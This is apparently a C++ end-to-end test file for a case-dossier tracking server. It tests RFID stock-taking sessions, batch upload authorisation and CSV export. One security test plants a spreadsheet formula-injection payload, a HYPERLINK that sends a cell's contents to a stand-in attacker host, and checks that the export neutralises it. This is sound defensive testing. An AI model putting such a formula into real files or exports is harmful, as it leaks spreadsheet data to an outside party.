// SPDX-FileCopyrightText: 2026 The Casetrail authors
// SPDX-License-Identifier: MulanPSL-2.0

// Black-box: a stock-taking session through the server process, with fixed-reader events written as the
// gateway writes them and handheld batches uploaded over HTTP; every class of the result appears.

#include <catch2/catch.hpp>

#include "common/time_format.hpp"
#include "gateway/events/event_id.hpp"
#include "gateway/store/event_store.hpp"
#include "gateway/store/reader_registry.hpp"
#include "tests/support/server_process.hpp"

using namespace casetrail;
using namespace casetrail::test;
using nlohmann::json;

namespace {

std::string epc(int n) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "E2801160000000000000%04d", n);
    return buf;
}

// What the fixed readers saw, written as the gateway writes it.
struct FixedReaders {
    gateway::EventStore events;
    std::vector<gateway::RegisteredAntenna> antennas;
    explicit FixedReaders(const std::string& conninfo) : events(conninfo) {
        gateway::ReaderRegistry readers(conninfo);
        std::vector<gateway::AntennaSpec> specs;
        for (int a = 1; a <= 8; ++a) specs.push_back({a, shelf(a), "shelf", ""});
        antennas = readers.register_readers({{"R1", "tcp", "127.0.0.1:1502", 1, specs}});
    }
    static std::string shelf(int a) {
        return "HQ-R1-C" + std::to_string((a - 1) / 4 + 1) + "-S" + std::to_string((a - 1) % 4 + 1);
    }
    void write(const std::string& kind, int tag, int antenna, std::chrono::system_clock::time_point at) {
        gateway::EventRow r;
        r.kind = kind;
        r.epc = epc(tag);
        for (const auto& a : antennas) {
            if (a.port == antenna) {
                r.antenna_id = a.antenna_id;
                r.location_id = a.location_id;
            }
        }
        r.observed_us = common::to_epoch_us(at);
        r.event_id = gateway::event_id("R1", antenna, r.epc, kind, r.observed_us);
        r.evidence_json = "{}";
        REQUIRE(events.write_batch({r}) == 1);
    }
};

json scan(int tag, const std::string& where) {
    return {{"epc", epc(tag)}, {"location", where}, {"at", common::format_utc(std::chrono::system_clock::now())}};
}

// The lines of a CSV body as a spreadsheet reads them (RFC 4180: quoted fields, doubled quotes, CRLF).
std::vector<std::vector<std::string>> read_csv(const std::string& body) {
    std::vector<std::vector<std::string>> lines(1);
    std::string field;
    bool quoted = false;
    for (std::size_t i = 0; i < body.size(); ++i) {
        const char c = body[i];
        if (quoted) {
            if (c == '"' && i + 1 < body.size() && body[i + 1] == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            lines.back().push_back(std::move(field));
            field.clear();
        } else if (c == '\r' && i + 1 < body.size() && body[i + 1] == '\n') {
            lines.back().push_back(std::move(field));
            field.clear();
            lines.emplace_back();
            ++i;
        } else {
            field += c;
        }
    }
    if (lines.back().empty()) lines.pop_back();
    return lines;
}

const json* item_of(const json& result, const std::string& key, const std::string& value) {
    for (const auto& i : result["items"]) {
        if (i[key].is_string() && i[key] == value) return &i;
    }
    return nullptr;
}

}  // namespace

TEST_CASE("a stock-taking classes every item: present, missing, misplaced, unknown tag", "[stocktake][e2e]") {
    ServerProcess s;
    FixedReaders readers(s.db.conninfo());
    const auto before = std::chrono::system_clock::now() - std::chrono::hours(1);
    // Before the session: dossier 18 was on its shelf (C1-S4) and then left coverage.
    readers.write("arrived", 18, 4, before);
    readers.write("departed", 18, 4, before + std::chrono::minutes(5));
    // Dossier 15 is checked out: its absence is explained.
    REQUIRE(s.post("/api/v1/dossiers/2026-CR-0015/checkout",
                   {{"to", "wang.li"},
                    {"purpose", "hearing"},
                    {"due_back", common::format_utc(std::chrono::system_clock::now() + std::chrono::hours(48))},
                    {"by", "liu.yang"}})
                .status == 201);

    // Cabinet 1 (shelves S1..S4) holds dossiers 1..20 by their home. The supervisor's two colleagues scan.
    auto r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C1"},
                                           {"by", "zhao.min"},
                                           {"note", "yearly count"},
                                           {"participants", {"liu.yang", "chen.jing"}}});
    REQUIRE(r.status == 201);
    const auto id = std::to_string(r.body["id"].get<long long>());
    CHECK(r.body["expected"] == 20);
    CHECK(r.body["state"] == "open");
    CHECK(r.body["participants"] == json({"zhao.min", "chen.jing", "liu.yang"}));
    CHECK(s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C1"}, {"by", "zhao.min"}}).status ==
          409);  // one open per scope

    // The fixed readers see dossiers 1..10 on their shelves (S1, S2) during the session.
    for (int n = 1; n <= 10; ++n) readers.write("arrived", n, (n - 1) / 5 + 1, std::chrono::system_clock::now());
    // A clerk's handheld: 11..14 on S3 (home), 16 on S3 (home S4), 25 on S4 (home in cabinet 2), an unbound tag.
    json batch = {
        {"batch_id", "HH7-0001"},
        {"by", "liu.yang"},
        {"scans",
         {scan(11, "HQ-R1-C1-S3"),
          scan(12, "HQ-R1-C1-S3"),
          scan(13, "HQ-R1-C1-S3"),
          scan(14, "HQ-R1-C1-S3"),
          scan(16, "HQ-R1-C1-S3"),
          scan(25, "HQ-R1-C1-S4"),
          {{"epc", "E2801160000000000000FFFF"}, {"location", "HQ-R1-C1-S4"}, {"at", "2026-11-24T10:00:00Z"}}}}};
    r = s.post("/api/v1/stocktakes/" + id + "/scans", batch);
    REQUIRE(r.status == 200);
    CHECK(r.body["scans"] == 7);
    CHECK(r.body["already_uploaded"] == false);
    // The scanner retries after a lost answer: harmless.
    r = s.post("/api/v1/stocktakes/" + id + "/scans", batch);
    CHECK(r.body["already_uploaded"] == true);
    CHECK(s.db.query_value("SELECT count(*) FROM stocktake_scans") == "7");
    // A second clerk finds 17 on its shelf.
    CHECK(s.post("/api/v1/stocktakes/" + id + "/scans",
                 {{"batch_id", "HH2-0001"}, {"by", "chen.jing"}, {"scans", {scan(17, "HQ-R1-C1-S4")}}})
              .status == 200);
    // Scans outside the scope, at unknown places, or with bad EPCs are refused whole.
    r = s.post("/api/v1/stocktakes/" + id + "/scans",
               {{"batch_id", "HH2-0002"}, {"by", "chen.jing"}, {"scans", {scan(30, "HQ-R1-C2-S2")}}});
    CHECK(r.status == 400);
    CHECK(r.body["error"]["message"] == "location HQ-R1-C2-S2 is outside the stock-taking's scope");
    CHECK(s.post("/api/v1/stocktakes/" + id + "/scans",
                 {{"batch_id", "HH2-0003"}, {"by", "chen.jing"}, {"scans", {scan(30, "NOWHERE")}}})
              .status == 400);
    CHECK(s.post("/api/v1/stocktakes/" + id + "/scans",
                 {{"batch_id", "HH2-0004"},
                  {"by", "chen.jing"},
                  {"scans", {{{"epc", "XYZ"}, {"location", "HQ-R1-C1-S1"}, {"at", "2026-11-24T10:00:00Z"}}}}})
              .status == 400);
    CHECK(s.db.query_value("SELECT count(*) FROM stocktake_batches") == "2");

    r = s.post("/api/v1/stocktakes/" + id + "/finish", {{"by", "zhao.min"}});
    REQUIRE(r.status == 200);
    const auto& res = r.body;
    INFO(res.dump(1));
    CHECK(res["stocktake"]["state"] == "finished");
    CHECK(res["summary"]["present"] == 15);   // 1..14 and 17
    CHECK(res["summary"]["missing"] == 4);    // 15 (checked out), 18 (left), 19, 20
    CHECK(res["summary"]["misplaced"] == 2);  // 16 (belongs S4), 25 (belongs in cabinet 2)
    CHECK(res["summary"]["unknown_tag"] == 1);
    const auto* p1 = item_of(res, "case_number", "2026-CR-0001");
    REQUIRE(p1);
    CHECK((*p1)["class"] == "present");
    CHECK((*p1)["seen_by"] == "fixed reader");
    CHECK((*item_of(res, "case_number", "2026-CR-0011"))["seen_by"] == "liu.yang");
    const auto* out = item_of(res, "case_number", "2026-CR-0015");
    CHECK((*out)["class"] == "missing");
    CHECK((*out)["checked_out_to"] == "wang.li");
    const auto* left = item_of(res, "case_number", "2026-CR-0018");
    CHECK((*left)["class"] == "missing");
    CHECK((*left)["last_known"]["at"] == "HQ-R1-C1-S4");
    CHECK((*left)["last_known"]["state"] == "absent");
    CHECK((*item_of(res, "case_number", "2026-CR-0019"))["last_known"].is_null());
    const auto* wrong_shelf = item_of(res, "case_number", "2026-CR-0016");
    CHECK((*wrong_shelf)["class"] == "misplaced");
    CHECK((*wrong_shelf)["seen_at"] == "HQ-R1-C1-S3");
    CHECK((*wrong_shelf)["belongs_at"] == "HQ-R1-C1-S4");
    const auto* stray = item_of(res, "case_number", "2026-CR-0025");
    CHECK((*stray)["class"] == "misplaced");
    CHECK((*stray)["belongs_at"] == "HQ-R1-C2-S1");
    const auto* unknown = item_of(res, "epc", "E2801160000000000000FFFF");
    CHECK((*unknown)["class"] == "unknown_tag");
    CHECK((*unknown)["case_number"].is_null());
    REQUIRE(res["scans_by_staff"].size() == 2);
    CHECK(res["scans_by_staff"][0] == json({{"login", "chen.jing"}, {"scans", 1}, {"batches", 1}}));
    CHECK(res["scans_by_staff"][1] == json({{"login", "liu.yang"}, {"scans", 7}, {"batches", 1}}));

    // Finished: no more scans; the result stays readable, also as CSV.
    CHECK(s.post("/api/v1/stocktakes/" + id + "/scans",
                 {{"batch_id", "HH9"}, {"by", "chen.jing"}, {"scans", json::array()}})
              .status == 409);
    CHECK(s.post("/api/v1/stocktakes/" + id + "/finish", {{"by", "zhao.min"}}).status == 409);
    CHECK(s.get("/api/v1/stocktakes/" + id).body["summary"] == res["summary"]);
    const auto csv = http_get(s.port, "/api/v1/stocktakes/" + id + "?format=csv");
    CHECK(csv.status == 200);
    CHECK(csv.body.rfind("class,case_number,volume,epc,belongs_at,seen_at", 0) == 0);
    CHECK_THAT(csv.body, Catch::Contains("missing,\"2026-CR-0015\",1,\"E28011600000000000000015\",\"HQ-R1-C1-S3\",,,"));
    CHECK_THAT(csv.body, Catch::Contains("\"wang.li\"\r\n"));
    CHECK(std::count(csv.body.begin(), csv.body.end(), '\n') == 23);  // header + 22 items
    CHECK(s.get("/api/v1/stocktakes/999999").status == 404);
    CHECK(s.get("/api/v1/stocktakes/" + id + "?format=xml").status == 400);
}

TEST_CASE("a case number that begins as a formula leaves the stock-taking CSV as text", "[stocktake][e2e][security]") {
    ServerProcess s;
    // A dossier registered before case numbers had an alphabet (the API and the import refuse this one
    // now), whose case number a spreadsheet would run: a link that sends the sheet's first cell away.
    const std::string formula = "=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")";
    s.db.exec(
        "INSERT INTO dossiers (case_number, title, owning_unit_id, home_location_id) "
        "SELECT '" +
        formula +
        "', 'legacy', u.id, l.id FROM units u, locations l "
        "WHERE u.code = 'CID-T1' AND l.code = 'HQ-R1-C1-S1';"
        "INSERT INTO volumes (dossier_id, volume_no) SELECT id, 1 FROM dossiers WHERE title = 'legacy'");
    auto r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C1-S1"}, {"by", "liu.yang"}});
    REQUIRE(r.status == 201);
    const auto id = std::to_string(r.body["id"].get<long long>());
    // In JSON it is what it is.
    CHECK(item_of(s.get("/api/v1/stocktakes/" + id).body, "case_number", formula) != nullptr);
    // Exported and read back as a spreadsheet reads it: text, with the quote that keeps it so.
    const auto csv = http_get(s.port, "/api/v1/stocktakes/" + id + "?format=csv");
    REQUIRE(csv.status == 200);
    const auto lines = read_csv(csv.body);
    REQUIRE(lines.size() == 7);  // the header, dossiers 1..5 and the legacy one
    int found = 0;
    for (std::size_t i = 1; i < lines.size(); ++i) {
        INFO(csv.body);
        REQUIRE(lines[i].size() == lines[0].size());
        for (const auto& cell : lines[i]) {
            // No cell of the export begins as a formula.
            CHECK((cell.empty() || std::string("=+-@\t\r").find(cell.front()) == std::string::npos));
        }
        if (lines[i][1] == "'" + formula) ++found;
    }
    CHECK(found == 1);
}

TEST_CASE("a batch id is its uploader's, scans are the token holder's, and only the starter or a supervisor finishes",
          "[stocktake][e2e][security]") {
    ServerProcess s;
    REQUIRE(s.post("/api/v1/staff", {{"login", "li.na"}, {"name", "Li Na"}, {"unit", "CID-S1"}, {"roles", {"clerk"}}})
                .status == 201);
    s.token_for("li.na");
    auto r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C1"}, {"by", "liu.yang"}});
    REQUIRE(r.status == 201);
    const auto id = std::to_string(r.body["id"].get<long long>());
    const auto scans = "/api/v1/stocktakes/" + id + "/scans";
    for (const auto* login : {"wang.li", "chen.jing"}) {
        REQUIRE(s.post("/api/v1/stocktakes/" + id + "/participants", {{"login", login}, {"by", "liu.yang"}}).status ==
                201);
    }
    r = s.post(scans, {{"batch_id", "HH-1"}, {"by", "wang.li"}, {"scans", {scan(1, "HQ-R1-C1-S1")}}});
    REQUIRE(r.status == 200);
    CHECK(r.body["already_uploaded"] == false);

    // The attack: chen.jing's handheld sends a batch under wang.li's batch id. Answered "already uploaded"
    // before, which dropped chen.jing's scans without a word (the items would count as missing).
    r = s.post(
        scans,
        {{"batch_id", "HH-1"}, {"by", "chen.jing"}, {"scans", {scan(2, "HQ-R1-C1-S1"), scan(3, "HQ-R1-C1-S1")}}});
    CHECK(r.status == 409);
    CHECK(r.body["error"]["message"] == "batch_id: \"HH-1\" was uploaded to stock-taking " + id +
                                            " by someone else; give this batch an id of its own");
    // wang.li's own retry is still harmless.
    r = s.post(scans, {{"batch_id", "HH-1"}, {"by", "wang.li"}, {"scans", {scan(1, "HQ-R1-C1-S1")}}});
    CHECK(r.status == 200);
    CHECK(r.body["already_uploaded"] == true);
    CHECK(r.body["scans"] == 1);

    // Scans are credited to the token's holder: a body naming someone else is refused.
    const auto chen = s.token_for("chen.jing");
    const json as_wang = {{"batch_id", "HH-2"}, {"by", "wang.li"}, {"scans", {scan(2, "HQ-R1-C1-S1")}}};
    const auto forged = http_send(s.port, "POST", scans, as_wang.dump(), {"Authorization: Bearer " + chen});
    CHECK(forged.status == 403);
    CHECK(s.post(scans, {{"batch_id", "HH-2"}, {"by", "chen.jing"}, {"scans", {scan(2, "HQ-R1-C1-S1")}}}).status ==
          200);
    CHECK(s.db.query_value("SELECT string_agg(s.login || ':' || b.batch_id || ':' || b.scans, ',' ORDER BY b.batch_id) "
                           "FROM stocktake_batches b JOIN staff s ON s.id = b.staff_id") ==
          "wang.li:HH-1:1,chen.jing:HH-2:1");

    // Finishing: another clerk may not (a case handler's role may not finish at all).
    const auto finish = "/api/v1/stocktakes/" + id + "/finish";
    r = s.post(finish, {{"by", "li.na"}});
    CHECK(r.status == 403);
    CHECK(r.body["error"]["message"] ==
          "only liu.yang, who started stock-taking " + id + ", or a supervisor can finish it");
    CHECK(s.post(finish, {{"by", "wang.li"}}).status == 403);
    CHECK(s.get("/api/v1/stocktakes/" + id).body["stocktake"]["state"] == "open");
    // A supervisor may.
    r = s.post(finish, {{"by", "zhao.min"}});
    CHECK(r.status == 200);
    CHECK(r.body["stocktake"]["finished_by"] == "zhao.min");
    // And the starter finishes their own.
    r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C2"}, {"by", "li.na"}});
    REQUIRE(r.status == 201);
    r = s.post("/api/v1/stocktakes/" + std::to_string(r.body["id"].get<long long>()) + "/finish", {{"by", "li.na"}});
    CHECK(r.status == 200);
    CHECK(r.body["stocktake"]["finished_by"] == "li.na");
}

TEST_CASE(
    "only those who take part in a stock-taking upload scans to it, and only its starter or a supervisor adds them",
    "[stocktake][e2e][security]") {
    ServerProcess s;
    for (const auto& [login, role] : {std::pair{"li.na", "clerk"}, std::pair{"zhou.fa", "legal_officer"}}) {
        REQUIRE(s.post("/api/v1/staff", {{"login", login}, {"name", login}, {"unit", "CID-S1"}, {"roles", {role}}})
                    .status == 201);
    }
    s.token_for("li.na");
    auto r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C1"}, {"by", "liu.yang"}});
    REQUIRE(r.status == 201);
    CHECK(r.body["participants"] == json({"liu.yang"}));
    const auto id = std::to_string(r.body["id"].get<long long>());
    const auto scans = "/api/v1/stocktakes/" + id + "/scans";
    const auto participants = "/api/v1/stocktakes/" + id + "/participants";

    // The attack: a clerk nobody named sends a batch into liu.yang's session (a present volume reported
    // elsewhere, a missing one reported present). Refused, and nothing of it is kept.
    const json batch = {
        {"batch_id", "LN-1"}, {"by", "li.na"}, {"scans", {scan(1, "HQ-R1-C1-S2"), scan(2, "HQ-R1-C1-S1")}}};
    r = s.post(scans, batch);
    CHECK(r.status == 403);
    CHECK(r.body["error"]["message"] == "only those who take part in stock-taking " + id +
                                            " can upload scans to it; its starter, liu.yang, or a supervisor can add "
                                            "li.na");
    CHECK(s.db.query_value("SELECT count(*) FROM stocktake_batches") == "0");
    CHECK(s.db.query_value("SELECT count(*) FROM stocktake_scans") == "0");

    // Nor may she add herself, or anyone: only the starter, a supervisor or an admin adds.
    r = s.post(participants, {{"login", "li.na"}, {"by", "li.na"}});
    CHECK(r.status == 403);
    CHECK(r.body["error"]["message"] ==
          "only liu.yang, who started stock-taking " + id + ", or a supervisor can add someone to it");
    CHECK(s.post(participants, {{"login", "chen.jing"}, {"by", "li.na"}}).status == 403);
    CHECK(s.get("/api/v1/stocktakes/" + id).body["stocktake"]["participants"] == json({"liu.yang"}));

    // Whom one may add: active staff whose roles scan.
    r = s.post(participants, {{"login", "nobody.here"}, {"by", "liu.yang"}});
    CHECK(r.status == 400);
    CHECK(r.body["error"]["message"] == "no active staff member has the login \"nobody.here\"");
    r = s.post(participants, {{"login", "zhou.fa"}, {"by", "liu.yang"}});
    CHECK(r.status == 400);
    CHECK(r.body["error"]["message"] ==
          "login: zhou.fa may not scan (roles: legal_officer); a participant is a clerk, case_handler, supervisor or "
          "admin");
    CHECK(s.post("/api/v1/stocktakes/999999/participants", {{"login", "li.na"}, {"by", "liu.yang"}}).status == 404);

    // The starter adds her (again: no change), and the same batch is taken.
    r = s.post(participants, {{"login", "li.na"}, {"by", "liu.yang"}});
    CHECK(r.status == 201);
    CHECK(r.body ==
          json({{"login", "li.na"}, {"already_participant", false}, {"participants", {"liu.yang", "li.na"}}}));
    r = s.post(participants, {{"login", "li.na"}, {"by", "liu.yang"}});
    CHECK(r.status == 201);
    CHECK(r.body["already_participant"] == true);
    r = s.post(scans, batch);
    CHECK(r.status == 200);
    CHECK(r.body["scans"] == 2);
    CHECK(s.db.query_value("SELECT string_agg(s.login || ':' || b.batch_id || ':' || b.scans, ',') "
                           "FROM stocktake_batches b JOIN staff s ON s.id = b.staff_id") == "li.na:LN-1:2");
    // Who added whom is in the audit trail, as the one who did it.
    CHECK(s.db.query_value("SELECT string_agg(actor || ' ' || (after->>'staff_id'), ',' ORDER BY seq) FROM audit_log "
                           "WHERE action = 'stocktake_participants.insert'") ==
          "liu.yang " + s.db.query_value("SELECT id FROM staff WHERE login = 'liu.yang'") + ",liu.yang " +
              s.db.query_value("SELECT id FROM staff WHERE login = 'li.na'"));

    // A supervisor oversees every session: uploads without being named, and adds anyone.
    CHECK(s.post(scans, {{"batch_id", "ZM-1"}, {"by", "zhao.min"}, {"scans", {scan(3, "HQ-R1-C1-S1")}}}).status == 200);
    CHECK(s.post(participants, {{"login", "wang.li"}, {"by", "zhao.min"}}).status == 201);
    CHECK(s.post(scans, {{"batch_id", "WL-1"}, {"by", "wang.li"}, {"scans", {scan(4, "HQ-R1-C1-S1")}}}).status == 200);
    CHECK(s.get("/api/v1/stocktakes/" + id).body["stocktake"]["participants"] ==
          json({"liu.yang", "li.na", "wang.li"}));

    // Named at the start: the same terms, and the whole start is refused for one bad name.
    r = s.post("/api/v1/stocktakes",
               {{"scope", "HQ-R1-C2"}, {"by", "li.na"}, {"participants", {"chen.jing", "zhou.fa"}}});
    CHECK(r.status == 400);
    CHECK_THAT(r.body["error"]["message"].get<std::string>(),
               Catch::StartsWith("participants[1]: zhou.fa may not scan"));
    CHECK(s.db.query_value("SELECT count(*) FROM stocktakes") == "1");
    r = s.post("/api/v1/stocktakes", {{"scope", "HQ-R1-C2"}, {"by", "li.na"}, {"participants", {"chen.jing"}}});
    REQUIRE(r.status == 201);
    const auto second = "/api/v1/stocktakes/" + std::to_string(r.body["id"].get<long long>());
    CHECK(r.body["participants"] == json({"li.na", "chen.jing"}));
    CHECK(s.post(second + "/scans", {{"batch_id", "CJ-1"}, {"by", "chen.jing"}, {"scans", {scan(21, "HQ-R1-C2-S1")}}})
              .status == 200);
    CHECK(s.post(second + "/scans", {{"batch_id", "LY-1"}, {"by", "liu.yang"}, {"scans", {scan(22, "HQ-R1-C2-S1")}}})
              .status == 403);

    // Nobody joins a finished session.
    REQUIRE(s.post("/api/v1/stocktakes/" + id + "/finish", {{"by", "liu.yang"}}).status == 200);
    r = s.post(participants, {{"login", "chen.jing"}, {"by", "liu.yang"}});
    CHECK(r.status == 409);
    CHECK(r.body["error"]["message"] == "stock-taking " + id + " is finished");
}
